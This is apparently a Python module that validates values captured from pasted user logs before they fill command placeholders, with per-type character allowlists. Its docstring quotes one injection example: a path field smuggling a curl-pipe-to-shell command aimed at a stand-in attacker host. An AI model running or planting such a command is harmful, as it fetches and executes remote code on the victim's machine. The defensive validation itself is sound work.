"""Which values captured from a user's log may fill a command's {placeholder}.

A capture is whatever the user pasted: `Check_path: /$(curl${IFS}-s${IFS}https://evil.example/x|sh)/config.json
failed` captures a "model path" that is a shell command, and `/<!channel>/` one that pings a whole Slack channel
(issue #11, finding 3). A value is filled in only when it has the shape its placeholder's type allows; otherwise
the placeholder stays visible, as it does when nothing was captured.
"""

from __future__ import annotations

MAX_VALUE = 512
# Characters a path may hold: none of them is special to a POSIX shell or to Slack mrkdwn.
_PATH_PUNCTUATION = frozenset("/._-+@=,:%")
_NAME_PUNCTUATION = frozenset("_.:-")  # NIC names, codes, model names: [A-Za-z0-9_.:-]+
_IP_CHARACTERS = frozenset("0123456789abcdefABCDEF.:")


def kind_of(name: str) -> str:
    """The type of a placeholder, from its name: port, ip, nic, path, or name (anything else)."""
    lowered = name.lower()
    if lowered == "port" or lowered.endswith("_port"):
        return "port"
    if lowered == "ip" or lowered.endswith("_ip") or lowered in ("host", "address"):
        return "ip"
    if lowered in ("ifname", "nic", "iface", "interface") or lowered.endswith(("_ifname", "_nic")):
        return "nic"
    if lowered.endswith(("path", "_dir", "_file")) or lowered in ("mount", "dir", "file", "directory", "image"):
        return "path"
    return "name"


def safe_value(name: str, value: str) -> str | None:
    """The value when it is safe to paste into a shell command and a Slack message as that type, else None."""
    if not value or len(value) > MAX_VALUE or not value.isprintable():
        return None
    kind = kind_of(name)
    if kind == "port":
        return value if value.isascii() and value.isdigit() and 0 < int(value) <= 65535 else None
    if kind == "ip":
        return value if all(ch in _IP_CHARACTERS for ch in value) else None
    if kind == "path":
        # Letters of any script (Chinese folder names are common), digits and a few inert punctuation marks;
        # no blank, quote, $, `, ;, |, &, <, >, (, ), *, ?, ~, !, # or backslash.
        return value if all(ch.isalnum() or ch in _PATH_PUNCTUATION for ch in value) else None
    return value if value.isascii() and all(ch.isalnum() or ch in _NAME_PUNCTUATION for ch in value) else None
